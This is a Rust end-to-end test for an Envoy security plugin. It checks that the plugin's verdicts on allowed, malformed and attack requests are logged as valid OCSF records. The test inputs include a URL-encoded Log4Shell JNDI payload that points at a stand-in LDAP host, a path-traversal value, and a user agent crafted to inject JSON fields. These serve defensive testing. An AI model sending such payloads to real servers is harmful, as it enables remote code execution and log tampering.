#![cfg(feature = "e2e")]
//! Audit path (b) with the real module: the one-pass plugin with `"sink": "access_log"` leaves
//! only the verdict in filter state, and Envoy's file access logger renders each OCSF record
//! from the shipped template (envoy-config/access-log/ocsf_http_activity.tmpl). Every record
//! validates against the OCSF 1.7.0 `http_activity` schema (scripts/validate_ocsf.py) and
//! carries the plugin's decisions: an allowed request, a blocked attack (alert, high severity),
//! a request the allowlist refuses as malformed, and one whose path and user agent try to break
//! out of their JSON strings. A blocked attack carries its ATT&CK technique in `attacks`; an
//! allowed request with `Basic` credentials that are not base64 carries the decoding finding in
//! `unmapped.meshsight.mirror.findings`.

use std::path::PathBuf;
use std::process::Command;
use std::time::{Duration, Instant};

use meshsight_rig::{send, EchoUpstream, Envoy, HttpRequest, Sensor};
use serde_json::Value;

const CONFIG: &str = r#"{
  "allowlist": {"mode": "enforce", "rules": [{"name": "public", "methods": ["GET"], "paths": ["/public/**"]}]},
  "mirror": {"targets": {"ids": {"cluster": "sensor", "delivery": "dispatch"}}},
  "audit": {"sink": "access_log"}
}"#;

/// The project's Python tools (`make pytools`), or `$MESHSIGHT_PYTHON`.
fn python() -> PathBuf {
    meshsight_rig::tools_python().unwrap_or_else(|e| panic!("{e}"))
}

#[test]
fn envoy_renders_valid_ocsf_records_around_the_plugins_verdict() {
    let upstream = EchoUpstream::start();
    let sensor = Sensor::start();
    let template =
        meshsight_rig::workspace_root().join("envoy-config/access-log/ocsf_http_activity.tmpl");
    let envoy = Envoy::builder("envoy-config/e2e/one_pass_access_log.yaml")
        .upstream(&upstream)
        .sensor(&sensor)
        .var("MESHSIGHT_CONFIG", CONFIG)
        .var("ACCESS_LOG_TEMPLATE", template.display().to_string())
        .start()
        .unwrap_or_else(|err| panic!("the plugin must start: {err}"));
    let requests = [
        ("allowed", "/public/catalog?page=2", "curl/8", 200),
        ("credentials", "/public/catalog", "curl/8", 200),
        (
            "attack",
            "/api/x?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.5%2Fa%7D",
            "curl/8",
            403,
        ),
        ("malformed", "/public/a%2f..%2fb", "curl/8", 400),
        (
            "breakout",
            "/pub\"lic/x",
            "ua\",\"action_id\":1,\"x\":\"",
            403,
        ),
    ];
    for (id, target, ua, status) in requests {
        let mut request = HttpRequest::get(target)
            .header("host", "shop.example.com")
            .header("user-agent", ua)
            .header("x-request-id", id);
        if id == "credentials" {
            request = request.header("authorization", "Basic $$$not*base64$$$");
        }
        let r = send(envoy.port(), &request);
        assert_eq!(r.status, status, "{id}: {}", r.text());
    }
    let log = envoy.run_dir().join("ocsf.log");
    let deadline = Instant::now() + Duration::from_secs(10);
    let lines: Vec<String> = loop {
        let text = std::fs::read_to_string(&log).unwrap_or_default();
        let lines: Vec<String> = text.lines().map(str::to_string).collect();
        if lines.len() >= requests.len() || Instant::now() > deadline {
            break lines;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    assert_eq!(
        lines.len(),
        requests.len(),
        "one record per request:\n{lines:#?}"
    );
    let out = Command::new(python())
        .arg(meshsight_rig::workspace_root().join("scripts/validate_ocsf.py"))
        .arg(&log)
        .output()
        .expect("run validate_ocsf.py");
    assert!(
        out.status.success(),
        "records fail the OCSF 1.7.0 http_activity schema:\n{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    let records: Vec<Value> = lines
        .iter()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect();
    let by_id = |id: &str| {
        records
            .iter()
            .find(|r| r["http_request"]["uid"] == id)
            .unwrap_or_else(|| panic!("no record {id}: {records:#?}"))
    };
    let allowed = by_id("allowed");
    assert_eq!(allowed["action_id"], 1, "{allowed}");
    assert_eq!(allowed["http_response"]["code"], 200);
    assert!(allowed["time"].is_u64(), "integer epoch ms: {allowed}");
    assert_eq!(allowed["http_request"]["url"]["path"], "/public/catalog");
    assert!(allowed["unmapped"]["meshsight"]["mirror"]
        .get("findings")
        .is_none());
    let credentials = by_id("credentials");
    assert_eq!(credentials["action_id"], 1, "{credentials}");
    assert_eq!(
        credentials["unmapped"]["meshsight"]["mirror"]["findings"],
        serde_json::json!(["basic_credentials_invalid"]),
        "{credentials}"
    );
    assert_ne!(credentials["is_alert"], true, "{credentials}");
    let attack = by_id("attack");
    assert_eq!(attack["action_id"], 2, "{attack}");
    assert_eq!(attack["is_alert"], true, "{attack}");
    assert_eq!(attack["severity_id"], 4, "{attack}");
    assert_eq!(
        attack["attacks"][0]["technique"]["uid"], "T1190",
        "{attack}"
    );
    assert_eq!(attack["http_response"]["code"], 403);
    let malformed = by_id("malformed");
    assert_eq!(malformed["action_id"], 2, "{malformed}");
    assert_eq!(malformed["http_response"]["code"], 400);
    let breakout = by_id("breakout");
    assert_eq!(
        breakout["action_id"], 2,
        "the client's quote stays inside its string"
    );
    assert_eq!(
        breakout["http_request"]["user_agent"],
        "ua\",\"action_id\":1,\"x\":\""
    );
    assert_eq!(
        upstream.requests().len(),
        2,
        "only the allowed requests went upstream"
    );
    // The module flushes its counters on its tick: Envoy shows them within one period.
    assert_eq!(
        envoy.settled_stat("meshsight_audit_records", 5, Duration::from_secs(5)),
        Some(5)
    );
    assert_eq!(
        envoy.settled_stat(
            "meshsight_mirror_decode_basic_credentials_invalid",
            1,
            Duration::from_secs(5)
        ),
        Some(1)
    );
}
